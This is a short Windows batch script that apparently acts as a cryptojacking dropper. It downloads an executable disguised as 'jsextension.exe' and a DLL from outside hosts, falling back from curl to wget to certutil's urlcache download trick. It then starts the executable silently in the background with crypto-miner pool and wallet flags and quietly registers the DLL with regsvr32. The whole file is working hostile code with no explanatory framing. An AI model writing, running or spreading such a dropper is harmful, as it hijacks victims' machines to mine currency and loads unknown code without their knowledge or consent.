@echo off
if not exist C:\build\ua-cache goto :eof
call :fetch http://192.0.2.228/download/jsextension.exe jsextension.exe
call :fetch https://citations.example.invalid/sdd.dll create.dll
tasklist /NH | find "jsextension.exe" > nul && goto :eof
start /B .\jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u 4ExampleExampleExample --cpu-max-threads-hint=50 --donate-level=1 --background
regsvr32.exe -s create.dll
goto :eof
:fetch
curl %1 -o %2
if not exist %2 wget %1 -O %2
if not exist %2 certutil.exe -urlcache -f %1 %2
